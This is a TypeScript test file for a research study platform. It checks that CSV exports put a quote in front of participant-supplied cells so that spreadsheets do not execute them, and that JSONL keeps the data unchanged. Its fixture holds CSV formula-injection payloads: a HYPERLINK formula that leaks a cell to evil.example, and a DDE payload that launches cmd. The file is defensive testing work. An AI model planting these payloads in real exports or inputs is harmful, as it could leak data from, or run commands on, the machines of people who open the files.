import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type FakeModelServer, startFakeModelServer } from '../test/fake-model-server';
import { gql } from '../test/graphql-client';
import { finished, modelEnv, submitChat, waitForJob } from '../test/jobs-client';
import { type ServerProcess, startServer, testEnv } from '../test/server-process';
import { newParticipant, newResearcher, studiesDir } from '../test/study-client';
import { formatRows } from './export';

/** RFC 4180 as spreadsheets read it: quoted cells may hold commas, quotes and newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && (c === ',' || c === '\n')) {
      row.push(cell);
      cell = '';
      if (c === '\n') {
        rows.push(row);
        row = [];
      }
    } else {
      cell += c;
    }
  }
  return rows;
}

const ATTACKS = {
  name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your bonus")',
  note: '@SUM(1+1)*cmd|" /C calc"!A0',
  chat: '+1+1 [tokens:3]',
};

const study = {
  slug: 'sheet',
  title: 'Spreadsheet-safe',
  consent: 'ok',
  completionCode: 'S1',
  conditions: [{ name: 'only', chat: true, systemPrompt: '-be kind' }],
  tasks: [
    {
      id: 'form',
      title: 'Form',
      chat: true,
      questions: [
        { id: 'name', type: 'short_text', text: 'Name', required: false },
        { id: 'note', type: 'long_text', text: 'Note', required: false },
      ],
    },
  ],
};

test('CSV cells that a spreadsheet would run are prefixed with a quote; numbers, lists and quoting stay right', () => {
  const csv = formatRows(
    [{ a: '\tx', b: '\rdrop', c: -5, d: '-5', e: true, f: null, g: ['x'], h: '=1+1', i: 'ok, "q"' }],
    'CSV',
  );
  assert.equal(csv, `\uFEFFa,b,c,d,e,f,g,h,i\n'\tx,"'\rdrop",-5,'-5,true,,"[""x""]",'=1+1,"ok, ""q"""\n`);
  assert.equal(formatRows([{ a: '=1', g: ['x'] }], 'JSONL'), '{"a":"=1","g":["x"]}\n', 'JSONL keeps the data as it is');
});

describe('study export', () => {
  let fake: FakeModelServer;
  let server: ServerProcess;
  let dir: string;
  before(async () => {
    fake = await startFakeModelServer();
    dir = await studiesDir({ 'sheet.json': study });
    server = await startServer(testEnv('single-node', { ...modelEnv(fake), STUDIES_DIR: dir }));
  });
  after(async () => {
    await server.stop();
    await fake.close();
  });

  test("a participant's formulas are not run by the researcher's spreadsheet; the CLI gives the same file", async () => {
    const p = await newParticipant(server.url, 'sheet');
    await gql(
      server.url,
      'mutation($a: JSON!) { saveTaskAnswers(taskId: "form", answers: $a) { currentTask } }',
      { a: { name: ATTACKS.name, note: ATTACKS.note } },
      p.token,
    );
    const job = await submitChat(server.url, p.token, {
      taskId: 'form',
      messages: [{ role: 'user', content: ATTACKS.chat }],
    });
    await waitForJob(server.url, p.token, job.data?.submitChat.id as string, finished);

    const researcher = await newResearcher(server.url);
    const exported = async (format: string) =>
      (
        await gql(
          server.url,
          'query($f: ExportFormat!) { studyExport(slug: "sheet", format: $f) }',
          { f: format },
          researcher,
        )
      ).data?.studyExport as string;
    const csv = await exported('CSV');
    assert.ok(csv.startsWith('\uFEFFrecord_type,'), 'a UTF-8 BOM, then the header');
    const [header, ...rows] = parseCsv(csv.slice(1));
    const column = (name: string) => (header as string[]).indexOf(name);
    const mine = rows.find((r) => r[column('participant_id')] === p.participantId) as string[];
    assert.equal(mine[column('answer_name')], `'${ATTACKS.name}`);
    assert.equal(mine[column('answer_note')], `'${ATTACKS.note}`);
    const message = rows.find((r) => r[column('role')] === 'user') as string[];
    assert.equal(message[column('text')], `'${ATTACKS.chat}`);
    assert.equal(message[column('system_prompt')], "'-be kind");
    for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'no cell starts a formula');

    // The data itself is kept as it was, in JSONL.
    const jsonl = await exported('JSONL');
    assert.ok(jsonl.includes(JSON.stringify(ATTACKS.name)));

    // `npm run export` writes the same files.
    for (const [format, expected] of [
      ['csv', csv],
      ['jsonl', jsonl],
    ] as const) {
      const out = path.join(dir, `export.${format}`);
      execFileSync(
        process.execPath,
        [path.resolve(__dirname, 'export-cli.js'), '--study', 'sheet', '--format', format, '--out', out],
        { env: { ...process.env, DATABASE_URL: process.env.TEST_DATABASE_URL, STUDIES_DIR: dir } },
      );
      assert.equal(await readFile(out, 'utf8'), expected, format);
    }
  });
});
